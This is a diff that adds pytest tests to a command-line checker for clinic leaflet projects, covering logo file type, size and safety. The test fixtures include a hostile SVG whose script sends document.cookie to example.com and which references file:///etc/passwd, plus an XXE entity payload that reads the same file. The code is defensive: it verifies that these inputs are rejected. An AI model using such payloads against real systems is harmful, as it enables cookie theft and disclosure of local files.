@@ -3,10 +3,13 @@ passes on the examples, through the installed CLI; the JSON report keeps its sch
 
 from __future__ import annotations
 
+import io
 import json
+import os
 
 import jsonschema
 import pytest
+from PIL import Image
 
 from .conftest import EXAMPLES, copy_clinic, run_cli
 
@@ -284,6 +287,89 @@ def test_reviews_in_date_pass_for_press(tmp_path):
     spoilt(tmp_path)
     result = check(tmp_path, "--for", "press", "--as-of", "2027-11-10")
     assert result.returncode == 0, result.stdout
+
+
+# --- logo ----------------------------------------------------------------------------------------
+
+def logo_errors(tmp_path, name: str, data: bytes, severity="error"):
+    """Check al-noor's copy with `data` as its logo file `name` (brand.logo pointing at it)."""
+    folder = spoilt(tmp_path, old='logo = "logo.svg"', new=f'logo = "{name}"')
+    (folder / name).write_bytes(data)
+    result = check(tmp_path)
+    return result, [line for line in findings(result, severity) if f"clinics/x/{name}" in line]
+
+
+def png(size, noise=False) -> bytes:
+    out = io.BytesIO()
+    image = Image.frombytes("RGB", size, os.urandom(size[0] * size[1] * 3)) if noise else \
+        Image.new("RGB", size, "#0B5563")
+    image.save(out, "PNG")
+    return out.getvalue()
+
+
+@pytest.mark.parametrize("name, data, message", [
+    ("logo.svg", png((600, 450)), "is a PNG file named .svg; the leaflet would treat it as SVG; "
+                                  "rename it with a .png extension (and brand.logo with it)"),
+    ("logo.png", b"<html>Our logo</html>", "is not a PNG, JPEG or SVG file (it starts with "
+                                           "b'<html>Ou'); export the logo again as PNG or SVG"),
+])
+def test_a_logo_is_judged_by_its_content_not_its_name(tmp_path, name, data, message):
+    result, errors = logo_errors(tmp_path, name, data)
+    assert result.returncode == 2
+    assert errors == [f"error: clinics/x/{name}: {message}"]
+
+
+HOSTILE_SVG = """<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"
+     width="40" height="40" onload="alert(1)">
+  <script>fetch("https://example.com/?" + document.cookie)</script>
+  <style>@import "https://example.com/brand.css"; .a { fill: url(#grad) }</style>
+  <linearGradient id="grad"><stop offset="0" stop-color="#000"/></linearGradient>
+  <image xlink:href="file:///etc/passwd" width="10" height="10"/>
+  <use href="#grad"/>
+  <image href="data:image/png;base64,iVBORw0KGgo=" width="1" height="1"/>
+  <rect width="40" height="40" style="fill: url('https://example.com/p.svg#x')"/>
+</svg>"""
+
+
+def test_an_svg_logo_with_scripts_or_outside_references_is_an_error(tmp_path):
+    result, errors = logo_errors(tmp_path, "logo.svg", HOSTILE_SVG.encode())
+    assert result.returncode == 2
+    assert [line.removeprefix("error: clinics/x/logo.svg: ") for line in errors] == [
+        "<svg onload=...> runs script when shown; remove the onload attribute",
+        "contains a <script>; export the logo again without scripts",
+        "<style> refers to https://example.com/brand.css, outside the logo; embed what it shows in "
+        "the SVG, or export the logo as PNG",
+        "<image> refers to file:///etc/passwd, outside the logo; embed what it shows in the SVG, or "
+        "export the logo as PNG",
+        "<rect> style refers to https://example.com/p.svg#x, outside the logo; embed what it shows "
+        "in the SVG, or export the logo as PNG"]
+
+
+def test_an_svg_logo_with_a_doctype_is_an_error(tmp_path):
+    svg = b'<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]><svg>&x;</svg>'
+    result, errors = logo_errors(tmp_path, "logo.svg", svg)
+    assert result.returncode == 2
+    assert errors == ["error: clinics/x/logo.svg: declares a DOCTYPE or entities; export the SVG again "
+                      "as plain SVG"]
+
+
+def test_a_small_or_heavy_raster_logo_is_a_warning_with_the_pixels_it_needs(tmp_path):
+    result, warnings = logo_errors(tmp_path, "logo.png", png((60, 45)), "warning")
+    assert result.returncode == 0, result.stdout
+    assert warnings == ["warning: clinics/x/logo.png: 60 × 45 pixels print at 96 dpi in the tri-fold "
+                        "cover (up to 30 × 21 mm); print needs 300 dpi; use one of at least 331 × 249 "
+                        "pixels, or an SVG"]
+    _, warnings = logo_errors(tmp_path / "heavy", "logo.png", png((700, 700), noise=True), "warning")
+    assert [line.split(",")[0] for line in warnings] == [
+        "warning: clinics/x/logo.png: is 1.5 MB"]
+
+
+def test_the_example_logos_pass_svg_png_and_jpeg(tmp_path, examples):
+    assert "logo" not in examples.stdout  # al-noor's SVG, dar-al-shifa's 720 × 720 PNG
+    out = io.BytesIO()
+    Image.new("RGB", (800, 600), "#0B5563").save(out, "JPEG")
+    result, found = logo_errors(tmp_path, "logo.jpg", out.getvalue(), "")
+    assert result.returncode == 0 and found == []
 
 
 # --- the JSON report ---------------------------------------------------------------------------
